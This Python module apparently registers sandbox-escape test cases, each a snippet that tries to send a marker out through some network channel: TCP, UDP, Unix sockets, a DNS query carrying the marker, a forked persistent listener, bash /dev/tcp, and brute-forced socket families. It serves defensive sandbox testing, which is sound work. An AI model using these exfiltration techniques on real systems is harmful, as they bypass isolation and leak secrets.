"""Attacks that speak to the world outside."""

from ..registry import code


def _send(name: str, source: str, **more: str) -> None:
    code(name, "network", "import socket\n" + source, needs="NETWORK", **more)


_send("TCP to a port of this machine", "socket.create_connection(('127.0.0.1', @TCP@), 1).send(b'@MARK@')")
_send("TCP over IPv6", "socket.create_connection(('::1', @TCP6@), 1).send(b'@MARK@')")
_send(
    "UDP to a port of this machine",
    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'@MARK@', ('127.0.0.1', @UDP@))",
)
_send(
    "a Unix socket with an abstract name",
    "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0@ABSTRACT@')\ns.send(b'@MARK@')",
)
code(
    "a Unix socket in the file system",
    "network",
    "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('@VAULT@/listening')\ns.send(b'@MARK@')",
    needs="FILES",
)
_send(
    "a name look-up that carries a secret, and a raw packet",
    """
import struct
question = b'\\x06@MARK@\\x00\\x00\\x01\\x00\\x01'
packet = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + question
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ('127.0.0.1', @UDP@))
""",
)
_send(
    "a server that waits for the next student",
    """
import os
listener = socket.create_server(('127.0.0.1', 0))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'@MARK@', ('127.0.0.1', @UDP@))
if os.fork() == 0:
    os.setsid()
    listener.settimeout(20)
    try:
        listener.accept()
    except OSError:
        pass
    os._exit(0)
""",
)
_send(
    "a download with the system's own programs",
    """
import subprocess
subprocess.run(['bash', '-c', 'echo @MARK@ > /dev/tcp/127.0.0.1/@TCP@'], timeout=2)
""",
)
code(
    "sockets of every family",
    "network",
    """
import socket

for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        for address in (('127.0.0.1', @TCP@), ('::1', @TCP6@), ('127.0.0.1', @UDP@), '\\0@ABSTRACT@', '@VAULT@/listening',
                        (0, 0), (2, @TCP@)):
            try:
                with socket.socket(family, kind) as made:
                    made.settimeout(0.2)
                    made.connect(address)
                    made.send(b'@MARK@')
            except (OSError, TypeError, ValueError, OverflowError):
                continue
""",
    needs="NETWORK FILES",
)
code(
    "the kernel is asked by netlink which networks there are",
    "network",
    """
import socket

names = [name for _, name in socket.if_nameindex()]
if set(names) - {'lo'}:
    print('SECRET-FOUND: networks', names)
""",
    needs="NETWORK",
)
code(
    "names are looked up",
    "network",
    """
import socket
import subprocess

for name in ('@MARK@.example.org', 'example.org'):
    try:
        print('SECRET-FOUND:', socket.getaddrinfo(name, 80))
    except OSError:
        pass
subprocess.run(['getent', 'hosts', '@MARK@.example.org'], timeout=1)
""",
    needs="NETWORK",
)
